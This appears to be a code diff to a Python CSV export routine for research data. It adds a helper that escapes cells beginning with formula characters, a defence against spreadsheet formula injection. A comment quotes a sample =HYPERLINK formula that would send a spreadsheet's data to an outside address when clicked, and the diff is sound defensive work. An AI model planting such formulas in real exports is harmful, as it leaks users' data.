@@ -221,13 +221,15 @@ def csv_stream(reader: Reader, project_id: uuid.UUID, filters: dict[str, Any], q
         csv.writer(lines).writerow(CSV_COLUMNS)
         yield "\ufeff" + lines[0]  # a BOM, so spreadsheet programs read UTF-8 right
         names = _Names(project_id, labels=_for_the_team(reader, filters))
-        dashed, places, prompts, printed = names.dashed, names.places.get, names.prompts.get, names.printed
-        labels = names.labels.known if names.labels is not None else {}
-        tags = _Cache(lambda tag_ids: "; ".join(names.tag_names(tag_ids)))
+        dashed, printed = names.dashed, names.printed
+        places = {k: _as_text(v) for k, v in names.places.items()}.get
+        prompts = {k: _as_text(v) for k, v in names.prompts.items()}.get
+        labels = names.labels.known if names.labels is not None else {}  # letters and digits first (sync's Label)
+        tags = _Cache(lambda tag_ids: _as_text("; ".join(names.tag_names(tag_ids))))
         for rows in _pages(reader, project_id, filters, q, names):
             lines = _Lines()
             csv.writer(lines).writerows(
-                (dashed(id_), at, places(place), prompts(prompt), kind, language, text, sensitive,
+                (dashed(id_), at, places(place), prompts(prompt), kind, _as_text(language), _as_text(text), sensitive,
                  tags[tag_ids] if tag_ids else "", json.dumps(answers, ensure_ascii=False) if answers else "",
                  printed[conversation], printed[consent], labels.get(consent))
                 for id_, at, place, prompt, kind, language, text, sensitive, answers, conversation, consent, _,
@@ -239,6 +241,17 @@ def csv_stream(reader: Reader, project_id: uuid.UUID, filters: dict[str, Any], q
             del text  # (the next page is read without this one)
 
     return _chunks(pages())
+
+
+# A spreadsheet program runs a cell that begins with one of these as a formula: a researcher's fragment reading
+# =HYPERLINK("https://…?"&G2:G9000, "more") would send a coordinator's whole export away with one click (older
+# programs run commands). In the CSV such a cell gets an apostrophe first, which they show as text and hide (OWASP's
+# advice); JSON Lines and .qdpx carry the words exactly.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _as_text(cell: str | None) -> str | None:
+    return "'" + cell if cell and cell.startswith(FORMULA_STARTS) else cell
 
 
 def jsonl_stream(reader: Reader, project_id: uuid.UUID, filters: dict[str, Any], q: str | None) -> Iterator[bytes]:
